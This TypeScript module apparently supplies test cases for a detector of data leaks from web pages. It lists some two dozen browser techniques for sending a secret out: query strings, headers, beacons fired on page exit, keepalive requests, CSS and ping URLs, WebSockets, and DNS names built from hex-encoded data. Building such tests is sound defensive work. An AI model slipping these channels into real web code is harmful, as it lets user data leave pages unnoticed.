import { framed, type Ground, type Plant } from './plant.ts'

/** Runs `act` in the page with the secret and the plant's address. */
const inPage =
  (act: (given: { secret: string; path: string; other: string }) => unknown): Plant['act'] =>
  ({ page, secret, path, otherSite }: Ground) =>
    page.evaluate(act, { secret, path, other: otherSite })

/** Runs `act` in a page of its own, and then leaves that. */
const whileLeaving =
  (act: (given: { secret: string; path: string }) => unknown): Plant['act'] =>
  async ({ visitor, secret, path, url }) => {
    await visitor.goto(new URL('/', url).href)
    await visitor.evaluate(act, { secret, path })
    await visitor.goto('about:blank')
  }

/** What a page sends out. */
export const REQUEST_PLANTS: readonly Plant[] = [
  {
    id: 'request-query',
    way: 'a query',
    channel: 'request-url',
    act: inPage(({ secret, path }) => fetch(`${path}?t=${secret}`).then(() => {})),
  },
  {
    id: 'request-path',
    way: 'a path',
    channel: 'request-url',
    act: inPage(({ secret, path }) => fetch(`${path}/${secret}`).then(() => {})),
  },
  {
    id: 'request-fragment',
    way: 'what follows the # of an address',
    channel: 'page-state',
    act: async ({ visitor, url, secret }) => {
      await visitor.goto(new URL('/', url).href)
      await visitor.evaluate((it) => {
        location.hash = it
      }, secret)
      await visitor.goto('about:blank')
    },
  },
  {
    id: 'request-header',
    way: 'a header of a request',
    channel: 'request-head',
    act: inPage(({ secret, path }) => fetch(path, { headers: { 'x-t': secret } }).then(() => {})),
  },
  {
    id: 'request-preflight',
    way: 'the name of a header in a preflight',
    channel: 'request-head',
    isInSmallLetters: true,
    act: inPage(({ secret, other }) =>
      fetch(other, { headers: { [`x-${secret}`]: 'it' } }).then(
        () => {},
        () => {},
      ),
    ),
  },
  {
    id: 'request-body',
    way: 'the body of a request',
    channel: 'request-body',
    act: inPage(({ secret, path }) => fetch(path, { method: 'POST', body: secret }).then(() => {})),
  },
  {
    id: 'request-bytes',
    way: 'bytes in a request of the old kind',
    channel: 'request-body',
    act: inPage(
      ({ secret, path }) =>
        new Promise((resolve) => {
          const request = new XMLHttpRequest()
          request.onloadend = () => resolve(undefined)
          request.open('POST', path)
          request.send(new TextEncoder().encode(`\0${secret}\0`))
        }),
    ),
  },
  {
    id: 'request-form',
    way: 'a form',
    channel: 'request-body',
    act: inPage(({ secret, path }) => {
      const form = document.createElement('form')
      const field = document.createElement('input')
      const frame = document.createElement('iframe')
      frame.name = 'form-target'
      Object.assign(field, { name: 't', value: secret })
      Object.assign(form, { method: 'POST', action: path, target: frame.name })
      form.append(field)
      document.body.append(form, frame)
      form.submit()
      form.remove()
    }),
  },
  {
    id: 'request-multipart',
    way: 'a file in a form',
    channel: 'request-body',
    act: inPage(({ secret, path }) => {
      const body = new FormData()
      body.append('file', new File([secret], 'notes.txt'))
      return fetch(path, { method: 'POST', body }).then(() => {})
    }),
  },
  {
    id: 'request-referrer',
    way: 'the address that a page says it comes from',
    channel: 'request-head',
    act: inPage(({ secret, path }) => {
      const before = location.href
      history.replaceState(null, '', `/?t=${secret}`)
      const sent = fetch(path)
      history.replaceState(null, '', before)
      return sent.then(() => {})
    }),
  },
  {
    id: 'request-cookie',
    way: 'a cookie that a page sets and takes back',
    channel: 'request-head',
    act: inPage(async ({ secret, path }) => {
      // biome-ignore lint/suspicious/noDocumentCookie: the old way is the leak.
      document.cookie = `brief=${secret}`
      await fetch(path)
      // biome-ignore lint/suspicious/noDocumentCookie: the old way is the leak.
      document.cookie = 'brief=; max-age=0'
    }),
  },
  {
    id: 'beacon-text',
    way: 'a beacon',
    channel: 'request-body',
    act: inPage(({ secret, path }) => void navigator.sendBeacon(path, secret)),
  },
  {
    id: 'beacon-blob',
    way: 'a beacon with a blob',
    channel: 'request-body',
    act: inPage(({ secret, path }) => void navigator.sendBeacon(path, new Blob([secret]))),
  },
  {
    id: 'beacon-on-leaving',
    way: 'a beacon that is sent as the page is left',
    channel: 'request-body',
    act: whileLeaving(({ secret, path }) =>
      addEventListener('pagehide', () => void navigator.sendBeacon(path, secret)),
    ),
  },
  {
    id: 'fetch-on-leaving',
    way: 'a request that outlives its page',
    channel: 'request-body',
    act: whileLeaving(({ secret, path }) =>
      addEventListener('pagehide', () => void fetch(path, { method: 'POST', keepalive: true, body: secret })),
    ),
  },
  {
    id: 'image-address',
    way: 'the address of a picture that is in no document',
    channel: 'request-url',
    act: inPage(({ secret, path }) =>
      new Promise((resolve) => {
        const image = new Image()
        image.onerror = resolve
        image.src = `${path}?t=${secret}`
      }).then(() => {}),
    ),
  },
  {
    id: 'link-ping',
    way: 'the ping of a link',
    channel: 'request-url',
    act: inPage(({ secret, path }) => {
      const link = document.createElement('a')
      Object.assign(link, { href: '#', ping: `${path}?t=${secret}` })
      document.body.append(link)
      link.click()
      link.remove()
    }),
  },
  {
    id: 'style-address',
    way: 'an address in a style',
    channel: 'request-url',
    act: inPage(({ secret, path }) => {
      const element = document.createElement('p')
      element.style.background = `url(${path}?t=${secret})`
      document.body.append(element)
      return new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))).then(() =>
        element.remove(),
      )
    }),
  },
  {
    id: 'refused-connection',
    way: 'a request to a server that is not there',
    channel: 'network-log',
    act: inPage(({ secret }) => fetch(`http://127.0.0.1:9/${secret}`).catch(() => {})),
  },
  {
    id: 'host-name',
    way: 'a name that is looked up',
    channel: 'network-log',
    act: inPage(({ secret }) => {
      const hex = Array.from(secret, (char) => char.charCodeAt(0).toString(16)).join('')
      const labels = hex.match(/.{1,60}/g) ?? []
      return fetch(`http://${labels.join('.')}.invalid/`).catch(() => {})
    }),
  },
  {
    id: 'socket-address',
    way: 'the address of a web socket',
    channel: 'request-url',
    act: inPage(({ secret, path }) =>
      new Promise((resolve) => {
        new WebSocket(`${path}?t=${secret}`).onopen = resolve
      }).then(() => {}),
    ),
  },
  {
    id: 'socket-protocol',
    way: 'the protocol that a web socket asks for',
    channel: 'request-head',
    act: inPage(({ secret, path }) =>
      new Promise((resolve) => {
        new WebSocket(path, secret).onopen = resolve
      }).then(() => {}),
    ),
  },
  {
    id: 'socket-text',
    way: 'a text that is sent into a web socket',
    channel: 'web-socket-sent',
    act: inPage(({ secret, path }) =>
      new Promise((resolve) => {
        const socket = new WebSocket(path)
        socket.onopen = () => resolve(socket.send(secret))
      }).then(() => {}),
    ),
  },
  {
    id: 'socket-bytes',
    way: 'bytes that are sent into a web socket',
    channel: 'web-socket-sent',
    act: inPage(({ secret, path }) =>
      new Promise((resolve) => {
        const socket = new WebSocket(path)
        socket.onopen = () => resolve(socket.send(new TextEncoder().encode(secret)))
      }).then(() => {}),
    ),
  },
  {
    id: 'frame-address',
    way: 'the address of a frame at another site',
    channel: 'request-url',
    act: framed(({ otherSite, secret }) => `${otherSite}?t=${secret}`),
    serve: (response) => response.setHeader('content-type', 'text/html').end('<p>framed</p>'),
  },
]
